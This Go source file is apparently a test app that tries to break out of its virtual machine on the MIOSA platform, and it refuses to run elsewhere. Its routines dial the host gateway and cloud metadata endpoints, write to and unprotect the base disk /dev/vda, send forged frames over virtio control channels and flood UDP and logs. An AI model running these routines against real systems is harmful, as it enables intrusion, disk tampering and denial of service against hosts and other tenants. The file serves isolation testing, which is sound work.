// Command hostile is an app that tries to leave its virtual machine: it reaches
// for its host, for its neighbours and for what they share. Asked by POST
// /attempts, it tries everything and answers with one line for each attempt:
// what was tried, and "held" or what gave way. It harms nobody where the
// platform holds.
package main

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	// Anywhere else it would be a machine of somebody's that it tries to harm.
	if os.Getenv("MIOSA_RUNTIME_INSTANCE_ID") == "" {
		fmt.Fprintln(os.Stderr, "hostile: this is no instance of MIOSA's; it runs nowhere else")
		os.Exit(2)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("GET /", func(w http.ResponseWriter, _ *http.Request) { fmt.Fprintln(w, "hostile") })
	mux.HandleFunc("POST /attempts", func(w http.ResponseWriter, r *http.Request) {
		for _, a := range attempts(r.URL.Query()["port"], r.URL.Query()["neighbour"]) {
			fmt.Fprintf(w, "%s\t%s\n", a.what, outcome(a.try()))
			_ = http.NewResponseController(w).Flush() // who asks sees how far it is
		}
	})
	server := &http.Server{Addr: ":" + os.Getenv("PORT"), Handler: mux, ReadHeaderTimeout: 10 * time.Second}
	fmt.Fprintln(os.Stderr, server.ListenAndServe())
	os.Exit(1)
}

// attempt is one thing to try: no error means that something gave way.
type attempt struct {
	what string
	try  func() (string, error)
}

func outcome(got string, err error) string {
	if err != nil {
		return "held"
	}
	return "gave way: " + got
}

// attempts are those at the host's ports, at neighbours (addresses with a port)
// and at all that a guest has in itself.
func attempts(ports, neighbours []string) []attempt {
	var all []attempt
	add := func(what string, try func() (string, error)) { all = append(all, attempt{what, try}) }
	dial := func(network, to string) {
		add("dial "+to+" by "+network, func() (string, error) { return reach(network, to) })
	}
	for _, port := range append(ports, "22", "53") {
		if gateway, err := gateway(); err == nil {
			dial("tcp", net.JoinHostPort(gateway.String(), port))
		}
	}
	for _, n := range neighbours {
		dial("tcp", n)
	}
	for _, a := range []string{"169.254.169.254:80", "169.254.170.2:80", "[fd00:ec2::254]:80", "168.63.129.16:80", "100.100.100.200:80", "10.0.0.1:80", "192.168.0.1:80"} {
		dial("tcp", a)
	}
	add("write to the base disk", func() (string, error) { return "the shared image was written to", scribble("/dev/vda") })
	add("make the base disk writable", func() (string, error) {
		return "the shared image was written to", unprotect("/dev/vda")
	})
	// Nothing that is seen in here can say whether these held: whoever runs
	// this sees it in the host and in the neighbours.
	add("forge frames of the control channel", func() (string, error) { forge(); return "", errors.ErrUnsupported })
	add("flood the connection table", func() (string, error) { flood(); return "", errors.ErrUnsupported })
	add("flood the log", func() (string, error) {
		line := append(bytes.Repeat([]byte("x"), 60_000), '\n')
		for range 200 {
			_, _ = os.Stdout.Write(line)
		}
		return "", errors.ErrUnsupported
	})
	return all
}

func reach(network, to string) (string, error) {
	conn, err := net.DialTimeout(network, to, time.Second)
	if err != nil {
		return "", err
	}
	defer conn.Close()
	return "connected", nil
}

// gateway is the host's end of the guest's link.
func gateway() (netip.Addr, error) {
	raw, err := os.ReadFile("/proc/net/route")
	if err != nil {
		return netip.Addr{}, err
	}
	for line := range strings.Lines(string(raw)) {
		f := strings.Fields(line)
		if len(f) > 2 && f[1] == "00000000" {
			b, err := hex.DecodeString(f[2])
			if err != nil || len(b) != 4 {
				continue
			}
			binary.LittleEndian.PutUint32(b, binary.BigEndian.Uint32(b))
			return netip.AddrFrom4([4]byte(b)), nil
		}
	}
	return netip.Addr{}, errors.New("no default route")
}

// scribble writes to a disk what is there already, down to the device.
func scribble(device string) error {
	f, err := os.OpenFile(device, os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	sector := make([]byte, 512)
	if _, err := f.ReadAt(sector, 0); err != nil {
		return err
	}
	if _, err := f.WriteAt(sector, 0); err != nil {
		return err
	}
	return f.Sync()
}

func unprotect(device string) error {
	f, err := os.Open(device)
	if err != nil {
		return err
	}
	defer f.Close()
	const blkroset = 0x125d
	off := int32(0)
	if _, _, errno := syscall.Syscall(syscall.SYS_IOCTL, f.Fd(), blkroset, uintptr(unsafe.Pointer(&off))); errno != 0 {
		return errno
	}
	return scribble(device)
}

// forge writes nonsense, lengths that are too large and half a frame into every
// channel to the host that can be opened, PID 1's own included.
func forge() {
	channels, _ := filepath.Glob("/dev/vport*")
	open, _ := filepath.Glob("/proc/1/fd/*")
	for _, fd := range open {
		if to, err := os.Readlink(fd); err == nil && strings.HasPrefix(to, "/dev/vport") {
			channels = append(channels, fd)
		}
	}
	for _, channel := range channels {
		f, err := os.OpenFile(channel, os.O_WRONLY|syscall.O_NONBLOCK, 0)
		if err != nil {
			continue
		}
		for _, frame := range [][]byte{{0xff, 0xff, 0xff, 0xff}, {0, 0, 0, 0}, []byte(`{"exit":{"code":0},"instance_id":"ri_neighbour"}`), bytes.Repeat([]byte{0}, 64<<10)} {
			_, _ = f.Write(frame)
		}
		f.Close()
	}
}

// flood opens connections for 20 s as fast as it can, two from each port: to the
// name server, and to the world.
func flood() {
	began := time.Now()
	server := &net.UDPAddr{IP: nameserver(), Port: 53}
	for port := 1024; port < 1<<16 && time.Since(began) < 20*time.Second; port++ {
		c, err := net.ListenUDP("udp4", &net.UDPAddr{Port: port})
		if err != nil {
			continue
		}
		_, _ = c.WriteTo([]byte("?"), server)
		_, _ = c.WriteTo([]byte("!"), &net.UDPAddr{IP: net.IPv4(11, 0, byte(port>>8), byte(port)), Port: 1})
		c.Close()
	}
}

func nameserver() net.IP {
	raw, _ := os.ReadFile("/etc/resolv.conf") // none: the world will do
	for line := range strings.Lines(string(raw)) {
		if f := strings.Fields(line); len(f) > 1 && f[0] == "nameserver" {
			return net.ParseIP(f[1])
		}
	}
	return net.IPv4(11, 1, 0, 1)
}
